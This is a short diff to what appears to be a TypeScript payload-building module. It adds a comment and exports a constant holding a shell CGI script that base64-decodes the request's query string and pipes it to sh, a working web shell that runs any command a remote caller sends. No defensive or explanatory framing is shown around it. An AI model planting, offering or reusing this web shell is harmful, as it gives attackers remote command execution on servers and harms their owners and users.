@@ -32,7 +32,8 @@ export interface PayloadParts {
 
 const base64 = (text: string) => Buffer.from(text).toString("base64");
 
-const ASK = `#!/bin/sh
+/** Of a web server with CGI: runs the shell command in the query. */
+export const ASK = `#!/bin/sh
 printf 'Content-Type: text/plain\\r\\n\\r\\n'
 printf %s "$QUERY_STRING" | tr '_-' '/+' | base64 -d | sh 2>&1
 `;
